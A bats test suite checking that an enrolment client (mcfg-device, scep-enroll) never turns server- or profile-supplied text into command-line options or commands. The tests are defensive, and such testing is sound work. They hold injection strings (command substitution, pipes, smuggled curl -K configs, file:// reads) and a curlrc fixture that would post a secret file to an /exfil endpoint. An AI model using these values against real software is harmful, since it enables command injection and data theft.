#!/usr/bin/env bats
# Text from a server, a profile or a device never becomes an option, a file or a
# command on a command line.  Each value holds such texts, and line ends.

load helpers
load scep_helpers

setup_file() {
	cd "$BATS_FILE_TMPDIR" || return
	openssl req -new -newkey rsa:2048 -nodes -keyout tls.key \
	    -subj /CN=localhost -out tls.csr 2> /dev/null
	echo 'subjectAltName=DNS:localhost' | openssl x509 -req -in tls.csr \
	    -CA "$PKI/root.pem" -CAkey "$PKI/root.key" -set_serial 77 \
	    -extfile /dev/stdin -out tls.pem 2> /dev/null
}

setup() {
	cd "$T" || return
	cp "$BATS_FILE_TMPDIR"/tls.* .
	echo '{}' > plants
	echo 'the secret of a file' > secret
	mkfifo ready
	python3 -W ignore "$TESTS/wrong_service.py" "$PKI" "$T" plants \
	    > ready 2> service 3>&- &
	server=$!
	read -r -t 600 URL < ready
	# A file that curl -K would obey.
	cat > curlrc <<-CONF
	url = "$URL/exfil"
	data-binary = "@$T/secret"
	insecure
	output = "$T/pwned"
	CONF
	record
}

teardown() {
	kill "$server" 2> /dev/null || :
	wait "$server" 2> /dev/null || :
}

# record: makes the tools that scripts call write their arguments to $T/words.
record() {
	local tool
	mkdir bin
	for tool in curl openssl mcfg-get mcfg-verify mcfg-inspect \
	    scep-request scep-response sed awk tr printf; do
		cat > "bin/$tool" <<-SH
		#!/bin/sh
		{ printf '%s\\0' $tool "\$@"; printf '\\n\\0'; } >> '$T/words'
		exec $(type -P "$tool") "\$@"
		SH
		chmod +x "bin/$tool"
	done
}

# texts: prints the hostile texts, one per line, with \n for a line end.
texts() {
	cat <<-TEXT
	-x
	-K$T/curlrc
	--config=./curlrc
	--
	@$T/secret
	file://$T/secret
	\$(touch $T/pwned)
	\`touch $T/pwned\`
	|touch $T/pwned
	;touch $T/pwned;
	&touch $T/pwned
	x\\ntouch $T/pwned\\n
	x\\n-K$T/curlrc
	$URL/x -K$T/curlrc
	$URL/x\\n/exfil
	\\x9b2J
	TEXT
}

# planted NAME TEXT: the service sends TEXT in this place, and is correct
# otherwise.
planted() {
	python3 - "$@" <<-'PY'
	import json, sys
	text = sys.argv[-1].encode().decode('unicode_escape')
	json.dump({name: text for name in sys.argv[1:-1]}, open('plants', 'w'))
	PY
}

# harmless TEXT: nothing was run, sent or written, and the text was a word only
# after an option that takes it.
harmless() {
	[ ! -e pwned ] && [ ! -e exfil ] || { cat exfil; return 1; }
	run -1 grep -qF 'the secret' said
	python3 - "$1" <<-'PY'
	import sys
	text = sys.argv[1].encode().decode('unicode_escape')
	takes = {b'--url', b'--subject', b'-subj', b'%s\n', b'%s'}
	for call in open('words', 'rb').read().split(b'\n\0'):
	    words = call.split(b'\0')[:-1]
	    for before, word in zip(words, words[1:]):
	        word = word.decode('latin-1')
	        if len(text) > 2 and (word == text or word == text.strip()) or \
	                word.startswith('-K') or \
	                word.startswith('-o/') or word.startswith('--config'):
	            if before not in takes and words[0] != b'printf' and \
	                    word != '-K':
	                sys.exit('%r: %r' % (text, words))
	PY
	: > words
}

device() {
	ended=0
	rm -rf out
	MCFG_BIN=$T/bin PATH=$T/bin:$PATH PW=x timeout 600 mcfg-device "$URL/" \
	    --cacert "$PKI/root.pem" --user jane --password env:PW \
	    --identity "$PKI/device.pem" --identity-key "$PKI/device.key" \
	    -o out "$@" > said 2>&1 || ended=$?
	cat said
	[ "$ended" -le 5 ]
	run -1 grep -qP '[^ -~]' said
}

@test "injection into clients: without a plant, the test's service is correct" {
	device
	[ "$ended" -eq 0 ]
	grep -q 'scep-request' <(tr '\0' '\n' < words)
}

@test "injection into clients: the addresses of a profile are addresses" {
	while read -r text; do
		for place in service-url scep-url; do
			planted $place "$text"
			device
			[ "$ended" -eq 1 ]
			grep -q 'not an http or https address' said
			harmless "$text"
		done
	done < <(texts)
}

@test "injection into clients: all other values of profiles and responses" {
	while read -r text; do
		planted service-challenge attribute name challenge value \
		    location caps "$text"
		device
		harmless "$text"
		for place in type key-size fingerprint; do
			planted $place "$text"
			device
			[ "$ended" -ne 0 ]
			harmless "$text"
		done
	done < <(texts | sed -n 'p;n;n')
}

@test "injection into clients: the table of --server-only-checks as well" {
	for text in "-K$T/curlrc" "x\\ntouch $T/pwned" "\$(touch $T/pwned)"; do
		for place in service-url scep-url 'service-challenge attribute
		    name challenge value location caps content-type key-size
		    fingerprint type'; do
			# shellcheck disable=SC2086 # words
			planted $place "$text"
			device --server-only-checks
			[ "$ended" -eq 1 ]
			harmless "$text"
		done
	done
}

@test "injection into clients: long texts and absurd sizes end at once" {
	long=$(printf '%020000d' 7)
	for place in service-url service-challenge scep-url name challenge \
	    type value fingerprint; do
		planted $place "$long"
		device
		[ "$ended" -eq 1 ]
	done
	for size in 65536 4097 512 -1 '2048 4096' 0x800; do
		planted key-size "$size"
		device
		[ "$ended" -eq 1 ]
		grep -q 'Keysize' said
	done
}

@test "injection into clients: addresses of scep-enroll, and what its server says" {
	ca ca
	while read -r text; do
		text=$(printf '%b' "$text")
		_run env MCFG_BIN="$T/bin" PATH="$T/bin:$PATH" scep-enroll \
		    --subject /CN=a --new-key k -- "$text"
		[ "$status" -eq 2 ]
		[ ! -e pwned ]
		[ ! -e exfil ]
	done < <(texts)
	python3 "$TESTS/scep_stranger.py" ca caps caps > ready 3>&- &
	kill "$server"
	server=$!
	read -r -t 600 URL < ready
	challenge ca > pw
	while read -r text; do
		printf '%b\n' "$text" > caps
		rm -f k
		challenge ca > pw
		MCFG_BIN=$T/bin PATH=$T/bin:$PATH scep-enroll "$URL" \
		    --subject /CN=a --new-key k --challenge file:pw --ca ca/root.pem \
		    -o cert > said 2>&1
		harmless "$text"
	done < <(texts)
}

@test "injection into clients: with --cacert no other root is trusted" {
	device
	python3 - <<-'PY'
	for call in open('words', 'rb').read().split(b'\n\0'):
	    words = call.split(b'\0')
	    if words[0] == b'curl':
	        assert words[words.index(b'--cacert') + 2] == b'--capath', words
	        assert words[words.index(b'--capath') + 1].endswith(b'/no-roots')
	PY
}
